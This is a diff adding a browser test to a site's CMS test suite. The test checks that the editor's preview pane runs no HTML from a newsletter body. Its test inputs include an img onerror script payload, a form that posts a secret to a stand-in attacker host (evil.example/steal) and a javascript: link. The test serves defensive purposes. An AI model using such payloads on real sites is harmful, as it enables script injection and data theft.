@@ -7,7 +7,8 @@
  * translation of a policy, named after the English original chosen in the form, which the rebuilt
  * site publishes at /ur/… with the English page linking to it. Also: what the editor cannot save,
  * the guard against committing someone's unfinished work, another site's page that tries to save
- * through the local backend, and the login of each production Git host.
+ * through the local backend, a preview that runs nothing in a body's HTML, and the login of each
+ * production Git host.
  */
 import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
 import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
@@ -365,6 +366,39 @@ describe('editing with the CMS', () => {
     expect(git('log', '--all', '--format=%s %H', '--', 'astro.config.mjs', 'content/newsletters/2026-11-30-forged.md').split('\n')).toHaveLength(1);
     expect(git('rev-parse', 'HEAD')).toBe(head);
     expect(serverLog).toContain(`it came from a page at ${attacker.url.replace(/\/$/, '')}, not from the editor`);
+  });
+
+  it('previews a body’s HTML without running it: no event handler, form or javascript: link', async () => {
+    const p = await context.newPage();
+    p.on('dialog', (d) => void d.accept());
+    await p.goto(`${site}/admin/#/collections/newsletters/new`);
+    // Decap's mode switch has no name of its own: it sits between the words "Rich Text" and "Markdown".
+    const markdownMode = p.locator('div:has(> span:text-is("Markdown")) > [role=switch]');
+    await markdownMode.waitFor();
+    await markdownMode.click();
+    await p.locator('[role=textbox][contenteditable=true]').click();
+    for (const line of [
+      'Hostile preview check',
+      '<img src="x" onerror="window.__previewRan = \'img\'; parent.__previewRan = \'img\'">',
+      '<form action="https://evil.example/steal"><input name="q" value="secret"><button>Send</button></form>',
+      '[Read more](javascript:parent.__previewRan=\'link\')',
+    ]) {
+      await p.keyboard.insertText(line);
+      await p.keyboard.press('Enter');
+      await p.keyboard.press('Enter');
+    }
+    const preview = p.frameLocator('#preview-pane');
+    await preview.getByText('Hostile preview check').waitFor();
+    await preview.getByText('Read more').waitFor();
+    expect(await preview.locator('[onerror]').count()).toBe(0);
+    expect(await preview.locator('form, input, button').count()).toBe(0);
+    expect(await preview.locator('[action*="evil.example"]').count()).toBe(0);
+    expect(await preview.locator('a[href]').evaluateAll((links) => links.map((a) => a.getAttribute('href')))).not.toContainEqual(expect.stringMatching(/^\s*javascript:/i));
+    await preview.getByText('Read more').click();
+    const frame = (await p.locator('#preview-pane').elementHandle())!.contentFrame();
+    expect(await (await frame)!.evaluate(() => (window as any).__previewRan)).toBeUndefined();
+    expect(await p.evaluate(() => (window as any).__previewRan)).toBeUndefined();
+    await p.close();
   });
 
   it('caused no Content-Security-Policy violations but the development toolbar’s', async () => {
